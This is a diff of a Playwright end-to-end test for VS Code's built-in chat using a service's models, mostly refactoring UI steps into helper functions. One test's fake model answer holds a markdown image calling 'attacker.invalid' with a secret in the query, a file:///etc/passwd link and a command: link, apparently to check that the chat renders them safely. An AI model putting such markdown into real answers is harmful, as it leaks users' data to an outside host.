@@ -11,8 +11,19 @@ import { repoRoot } from '../harness/tools';
 import { ask, openChat, until, waitForStatus } from './chatView';
 import { chatRequests as chatRequestsOf, type LoggedChatRequest } from '../harness/requestLog';
 import { openServiceScenario, type ServiceScenario } from './serviceScenario';
-import { runCommand } from './workbench';
-import { answerChatSetupOffer, chooseMode, focusNativeInput, nativeChat, NATIVE_CHAT_SETTINGS, pickerRows, screenshots, sendNative } from './nativeChatView';
+import {
+  answerChatSetupOffer,
+  chooseMode,
+  focusNativeInput,
+  modelPickerListing,
+  nativeChat,
+  NATIVE_CHAT_SETTINGS,
+  newNativeChat,
+  openLanguageModels,
+  openNativeChatInAsk,
+  screenshots,
+  sendNative,
+} from './nativeChatView';
 
 const QUESTION = 'How do I compute a moving average in TypeScript?';
 const shot = screenshots('native-chat');
@@ -91,31 +102,11 @@ describe("VS Code's own chat with the service's models", () => {
     // The set-up by hand, as a user who declined MaaS Assistant's offer (test/e2e/nativeChatSetup.e2e.ts accepts it).
     await answerChatSetupOffer(page, 'Not now');
     // On a fresh profile VS Code's chat needs its set-up once: opening the Language Models editor does it.
-    await runCommand(page, 'Chat: Manage Language Models');
-    const editor = page.locator('.language-models-management-editor, .editor-instance').filter({ hasText: 'svc_llm' }).first();
-    await editor.waitFor({ timeout: 30_000 });
+    const editor = await openLanguageModels(page, 'svc_llm');
     assert.match((await editor.textContent()) ?? '', /svc_vl/);
     await shot(page, 'native-language-models', { x: 0, y: 0, width: 1400, height: 420 });
-    await page.keyboard.press('Escape');
-    await page.keyboard.press('Control+Alt+I');
-    await nativeChat(page).locator('.interactive-input-part').first().waitFor({ timeout: 30_000 });
-    // VS Code suggests setting utility models (the README says how); the notice is not part of this test.
-    await nativeChat(page)
-      .locator('[aria-label="Dismiss notification"]')
-      .first()
-      .click({ timeout: 5_000 })
-      .catch(() => undefined);
-    await chooseMode(page, 'Ask');
-    const rows = await until(
-      async () => {
-        const listed = await pickerRows(page);
-        if (listed.some((row) => row.includes('svc_llm'))) return listed;
-        await page.keyboard.press('Escape');
-        return undefined;
-      },
-      60_000,
-      'svc_llm in the model picker (VS Code enables its chat a few seconds after the set-up)',
-    );
+    await openNativeChatInAsk(page);
+    const rows = await modelPickerListing(page, 'svc_llm');
     assert.ok(
       rows.some((row) => /svc_llm.*MaaS/.test(row)),
       rows.join(' | '),
@@ -144,7 +135,7 @@ describe("VS Code's own chat with the service's models", () => {
 
   it("shows svc_llm's reasoning as its thinking, none of it in the answer, and the context meter fills from the service's usage", async () => {
     const { page } = scenario;
-    await nativeChat(page).locator('.codicon-add, [aria-label^="New Chat"]').first().click();
+    await newNativeChat(page);
     await chooseMode(page, 'Ask');
     const meter = nativeChat(page).locator('.chat-context-usage-widget').first();
     const before = (await chatRequests()).length;
@@ -166,7 +157,7 @@ describe("VS Code's own chat with the service's models", () => {
 
   it('answers about an image pasted into the question with svc_llm picked: svc_vl describes it first', async () => {
     const { page } = scenario;
-    await nativeChat(page).locator('.codicon-add, [aria-label^="New Chat"]').first().click();
+    await newNativeChat(page);
     await chooseMode(page, 'Ask');
     await focusNativeInput(page);
     // A real paste: the image on the browser's clipboard, then Ctrl+V in the chat's input.
@@ -211,7 +202,7 @@ describe("VS Code's own chat with the service's models", () => {
 
   it('@maas /kb answers from the knowledge base with the passages as references', async () => {
     const { page } = scenario;
-    await nativeChat(page).locator('.codicon-add, [aria-label^="New Chat"]').first().click();
+    await newNativeChat(page);
     await chooseMode(page, 'Ask');
     const before = (await chatRequests()).length;
     await sendNative(page, '@maas /kb Where is the API key stored?');
@@ -240,7 +231,7 @@ describe("VS Code's own chat with the service's models", () => {
       'Look: ![chart](https://attacker.invalid/c.png?d=secret), [the docs](https://docs.example/a), [a file](file:///etc/passwd) ' +
       'and [a command](command:workbench.action.terminal.new). Done.';
     for (const question of ['@maas Where are the docs?', 'Where are the docs?']) {
-      await nativeChat(page).locator('.codicon-add, [aria-label^="New Chat"]').first().click();
+      await newNativeChat(page);
       await chooseMode(page, 'Ask');
       await scenario.api('/_local/next-answer', { body: { text: answer, count: 1 } });
       await sendNative(page, question);
@@ -271,7 +262,7 @@ describe("VS Code's own chat with the service's models", () => {
     // A read-only tool that needs no confirmation: the listing of the workspace folder.
     const tool = offered.find((name) => /list_?dir|listDirectory/i.test(name)) ?? offered.find((name) => /read_?file/i.test(name));
     assert.ok(tool, `a listing or reading tool among ${offered.join(', ')}`);
-    await nativeChat(page).locator('.codicon-add, [aria-label^="New Chat"]').first().click();
+    await newNativeChat(page);
     await chooseMode(page, 'Agent');
     const before = (await chatRequests()).length;
     await sendNative(page, `Please call ${tool} on the workspace folder.`);
